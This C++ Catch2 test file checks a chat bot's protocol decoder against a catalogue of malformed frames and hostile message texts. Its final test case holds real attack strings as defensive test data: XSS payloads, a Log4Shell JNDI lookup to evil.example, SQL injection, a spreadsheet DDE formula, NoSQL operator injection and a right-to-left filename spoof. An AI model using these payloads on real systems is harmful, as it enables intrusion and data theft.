// The catalogue of bad frames: each row has the number of its kind (B41 to B66 are JSON and
// messages) and the error that must come, with its field. Rows about what happens next (three
// strikes, the same id with another body) belong to sessions and turns.
#include <catch2/catch.hpp>

#include "bot/protocol/client_frame.hpp"

using namespace bot;

namespace {

struct Row {
  int number;
  std::string frame;
  std::string_view error;  // "ok": taken as it is
  std::string_view field = {};
};

std::string repeat(std::string_view piece, std::size_t times) {
  std::string text;
  for (std::size_t i = 0; i < times; ++i) text += piece;
  return text;
}

std::string message(const std::string& text) {
  return R"({"type":"message","id":"1","text":")" + text + R"("})";
}

std::string with(const std::string& members) {
  return R"({"type":"message","id":"1","text":"x",)" + members + "}";
}

std::string many_members(std::size_t count) {
  std::string members = R"("type":"message")";
  for (std::size_t i = 0; i < count; ++i) members += ",\"k" + std::to_string(i) + "\":1";
  return "{" + members + "}";
}

std::vector<Row> structure_rows() {
  using namespace std::string_literals;
  return {
      {41, repeat("[", 60'000), "bad_json"},
      {41, R"({"type":"press","id":"1","values":)" + repeat("[", 31), "bad_json"},
      {41, R"({"type":"press","id":"1","values":)" + repeat(R"({"a":)", 60), "bad_json"},
      {42, many_members(255), "bad_field"},
      {42, many_members(256), "bad_json"},
      {42, many_members(5'000), "bad_json"},
      {42, many_members(20'000), "too_large"},
      {43, R"({"type":"message","type":"ping","id":"1","text":"x"})", "bad_json"},
      {43, R"({"type":"message","id":"1","id":"2","text":"x"})", "bad_json"},
      {43, R"({"type":"message","id":"1","text":"x","te\u0078t":"y"})", "bad_json"},
      {43, R"({"type":"press","id":"1","button":"a","button":"b"})", "bad_json"},
      {44, R"({"type":"ping"} x)", "bad_json"},
      {44, R"({"type":"ping"}{"type":"ping"})", "bad_json"},
      {44, R"({"type":"ping"},)", "bad_json"},
      {44, "", "bad_json"},
      {44, " ", "bad_json"},
      {44, "null", "bad_json"},
      {44, "1", "bad_json"},
      {44, R"("ping")", "bad_json"},
      {44, R"([{"type":"ping"}])", "bad_json"},
      {44, R"({"type":"ping")", "bad_json"},
      {44, R"({"type":"ping",})", "bad_json"},
      {44, R"({'type':'ping'})", "bad_json"},
      {44, R"({type:"ping"})", "bad_json"},
      {44, R"({"type":"ping"}//)", "bad_json"},
      {44, R"({"type":"message","id":"1","text":"x)", "bad_json"},
      {44, R"({"type":"message","id":"1","text":"x\)", "bad_json"},
      {44, message(R"(\x)"), "bad_json"},
      {45, message(R"(\ud800)"), "bad_text"},
      {45, message(R"(\udc00 x)"), "bad_text"},
      {45, message(R"(\ud800\u0041)"), "bad_text"},
      {45, message("\xED\xA0\x80"), "bad_text"},
      {46, message(R"(a\u0000b)"), "bad_text"},
      {46, message("a\0b"s), "bad_text"},
      {46, message(R"(\u0007)"), "bad_text"},
      {46, message(R"(\u001b[31m)"), "bad_text"},
      {46, message("\x7F"), "bad_text"},
      {46, message(R"(\u007f)"), "bad_text"},
      {46, message("\xC2\x85"), "bad_text"},
      {46, message(R"(\u009f)"), "bad_text"},
      {46, message(R"(\b)"), "bad_text"},
      {46, R"({"type":"message","id":"1\u0000","text":"x"})", "bad_text"},
      {46, R"({"type":"press","id":"1","button":"a\u0000"})", "bad_text"},
      {46, R"({"type":"hello","token":"a\u0000"})", "bad_text"},
      {46, R"({"type":"press","id":"1","values":{"a\u0000":1}})", "bad_text"},
      {47, message("a\x01"), "bad_text"},
      {47, message("line one\nline two"), "bad_text"},
      {47, message("a\tb"), "bad_text"},
      {48, "\xEF\xBB\xBF{\"type\":\"ping\"}", "bad_text"},
      {48, "\xFF\xFE{\0\"\0"s, "bad_text"},
      {48, "{\0\"\0t\0"s, "bad_text"},
      {48, message("\x80"), "bad_text"},
      {48, message("\xC0\xAF"), "bad_text"},
      {48, message("\xF4\x90\x80\x80"), "bad_text"},
      {48, message("\xE2\x82"), "bad_text"},
  };
}

std::vector<Row> field_rows() {
  return {
      {49, R"({"type":"read","seq":1e400})", "bad_field", "seq"},
      {49, R"({"type":"read","seq":NaN})", "bad_field"},
      {49, R"({"type":"read","seq":-0})", "bad_field", "seq"},
      {49, R"({"type":"read","seq":18446744073709551616})", "bad_field", "seq"},
      {49, R"({"type":"read","seq":9223372036854775808})", "bad_field", "seq"},
      {49, R"({"type":"read","seq":0.1})", "bad_field", "seq"},
      {49, R"({"type":"read","seq":1.0})", "bad_field", "seq"},
      {49, R"({"type":"read","seq":1e3})", "bad_field", "seq"},
      {49, R"({"type":"read","seq":01})", "bad_json"},
      {49, R"({"type":"read","seq":+1})", "bad_json"},
      {49, R"({"type":"read","seq":0x10})", "bad_json"},
      {50, R"({"type":"read","seq":"1"})", "bad_field", "seq"},
      {50, R"({"type":"read","seq":true})", "bad_field", "seq"},
      {50, R"({"type":"message","id":{"$ne":null},"text":"x"})", "bad_field", "id"},
      {50, R"({"type":"message","id":["1"],"text":"x"})", "bad_field", "id"},
      {50, R"({"type":"message","id":1,"text":"x"})", "bad_field", "id"},
      {50, R"({"type":"message","id":"1","text":{"$regex":".*"}})", "bad_field", "text"},
      {50, R"({"type":"message","id":"1","text":["x"]})", "bad_field", "text"},
      {50, R"({"type":"message","id":"1","text":true})", "bad_field", "text"},
      {50, R"({"type":"message","id":"1","attachments":"x"})", "bad_field", "attachments"},
      {50, R"({"type":"message","id":"1","attachments":[1]})", "bad_field", "attachments"},
      {50, R"({"type":"message","id":"1","attachments":[{"upload":"x"}]})", "bad_field",
       "attachments"},
      {50, R"({"type":"press","id":"1","button":{}})", "bad_field", "button"},
      {50, R"({"type":"press","id":"1","values":[1]})", "bad_field", "values"},
      {50, R"({"type":"hello","token":{"alg":"none"}})", "bad_field", "token"},
      {50, R"({"type":["ping"]})", "bad_field", "type"},
      {51, R"({"type":"login"})", "bad_field", "type"},
      {51, R"({"type":""})", "bad_field", "type"},
      {51, R"({"id":"1","text":"x"})", "bad_field", "type"},
      {51, "{}", "bad_field", "type"},
      {51, R"({"type":"welcome","conversation":"x"})", "bad_field", "type"},
      {51, with(R"("colour":"red")"), "bad_field", "colour"},
      {51, with(R"("__proto__":{"a":1})"), "bad_field", "__proto__"},
      {51, with(R"("":1)"), "bad_field", ""},
      {52, R"({"type":"Message","id":"1","text":"x"})", "bad_field", "type"},
      {52, R"({"Type":"ping"})", "bad_field", "type"},
      {52, R"({"type":"message","Id":"1","text":"x"})", "bad_field", "id"},
      {52, R"({"type":"message","id":"1","Text":"x"})", "bad_field", "Text"},
      {55, R"({"type":"hello","after":-1})", "bad_resume", "after"},
      {55, R"({"type":"hello","after":-9007199254740991})", "bad_resume", "after"},
      {55, R"({"type":"hello","after":-9007199254740992})", "bad_field", "after"},
      {55, R"({"type":"hello","after":9007199254740992})", "bad_field", "after"},
      {55, R"({"type":"hello","after":"7"})", "bad_field", "after"},
      {55, R"({"type":"hello","after":1.5})", "bad_field", "after"},
      {56, with(R"("role":"agent")"), "bad_field", "role"},
      {56, with(R"("verified":true)"), "bad_field", "verified"},
      {56, with(R"("agent_id":"7")"), "bad_field", "agent_id"},
      {56, with(R"("created_at":"2020-01-01T00:00:00Z")"), "bad_field", "created_at"},
      {56, with(R"("seq":1)"), "bad_field", "seq"},
      {56, with(R"("from":"agent")"), "bad_field", "from"},
      {56, with(R"("time":"2020-01-01")"), "bad_field", "time"},
      {56, with(R"("conversation":"x")"), "bad_field", "conversation"},
      {56, with(R"("customer":"boris")"), "bad_field", "customer"},
      {56, R"({"type":"hello","customer":"boris"})", "bad_field", "customer"},
      {56, R"({"type":"hello","role":"agent"})", "bad_field", "role"},
      {56, R"({"type":"press","id":"1","button":"a","text":"x"})", "bad_field", "text"},
  };
}

std::vector<Row> text_rows() {
  const std::string zwsp = "\xE2\x80\x8B";
  return {
      {57, message(""), "empty", "text"},
      {57, R"({"type":"message","id":"1"})", "empty", "text"},
      {57, message("   "), "empty", "text"},
      {57, message(R"(\n\t\r )"), "empty", "text"},
      {57, message("\xC2\xA0\xE3\x80\x80"), "empty", "text"},
      {57, message(zwsp), "empty", "text"},
      {57, message(zwsp + " " + zwsp), "empty", "text"},
      {57, message(R"(\u200b\u2060\ufeff)"), "empty", "text"},
      {57, message("\xE2\x80\xAE"), "empty", "text"},
      {57, message("\xEF\xB8\x8F"), "empty", "text"},
      {58, message(repeat("a", 4097)), "too_long", "text"},
      {58, message(repeat("\xE2\x80\x8B", 4097)), "too_long", "text"},
      {58, message(repeat("a", 1024 * 1024)), "too_large"},
      {59, message("a" + repeat("\xCC\x81", 30)), "ok"},
      {59, message("a" + repeat("\xCC\x81", 31)), "too_long", "text"},
      {59, message("a" + repeat("\xCC\x81", 4000)), "too_long", "text"},
      {59, message("a" + repeat("\xCC\x81", 10'000)), "too_long", "text"},
      {59, message("a" + repeat("\xE2\x83\x9D", 31)), "too_long", "text"},
      {60, message("a" + repeat(R"(\n)", 511)), "ok"},
      {60, message("a" + repeat(R"(\n)", 512)), "too_long", "text"},
      {60, message("a" + repeat(R"(\n)", 5000)), "too_long", "text"},
      {60, message("a" + repeat("\xE2\x80\xA8", 512)), "too_long", "text"},
      {60, R"({"type":"press","id":"1","values":{"a":")" + repeat("x", 4097) + R"("}})", "too_long",
       "values.a"},
      {60, R"({"type":"press","id":"1","values":{"a":["b",")" + repeat("x", 4097) + R"("]}})",
       "too_long", "values.a"},
  };
}

void check_rows(const std::vector<Row>& rows) {
  for (const Row& row : rows) {
    INFO("B" << row.number << ": " << row.frame.substr(0, 200));
    const auto decoded = decode(row.frame);
    CHECK((decoded ? std::string_view("ok") : decoded.error().name) == row.error);
    if (!decoded && !row.field.empty()) CHECK(decoded.error().field == row.field);
    if (decoded) continue;
    // No answer quotes what was sent, beyond the name of a field.
    CHECK(decoded.error().detail.size() < 200);
    CHECK(decoded.error().field.size() <= 256);
  }
}

}  // namespace

TEST_CASE("bad frames: B41-B48, what is no JSON or no text", "[bot][protocol]") {
  check_rows(structure_rows());
}

TEST_CASE("bad frames: B49-B56, fields of the wrong kind, unknown, or the server's",
          "[bot][protocol]") {
  check_rows(field_rows());
}

TEST_CASE("bad frames: B57-B60, texts that are empty or too much", "[bot][protocol]") {
  check_rows(text_rows());
}

TEST_CASE("bad frames: B61-B66, odd and hostile texts are kept as they are", "[bot][protocol]") {
  const std::vector<std::string> texts = {
      "\xE2\x80\xAE"
      "gpj.exe",  // right-to-left override
      "\xD0\x90"
      "B123 \xD0\xA1"
      "X",                                             // Cyrillic letters among Latin ones
      "\xEF\xBC\x91\xEF\xBC\x92\xEF\xBC\x93",          // full-width digits
      "\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA7",  // emoji joined by U+200D
      "caf\xC3\xA9",                                   // composed
      "cafe\xCC\x81",                                  // decomposed: not made the same
      "[x](javascript:alert(1))",
      "![](http://evil.example/a.png)",
      "data:text/html;base64,PHNjcmlwdD4=",
      "&lt;b&gt; &#x3c;script&#x3e;",
      "<img src=x onerror=alert(1)>",
      "<svg/onload=alert(1)>",
      "{{7*7}} ${jndi:ldap://evil.example/a} %n%s%x",
      "'; DROP TABLE journal; --",
      "=cmd|' /C calc'!A0",
  };
  for (const std::string& text : texts) {
    INFO(text);
    const auto decoded = decode(R"({"type":"message","id":"1","text":")" + text + R"("})");
    REQUIRE(decoded.has_value());
    CHECK(std::get<Message>(*decoded).text == text);
  }
}
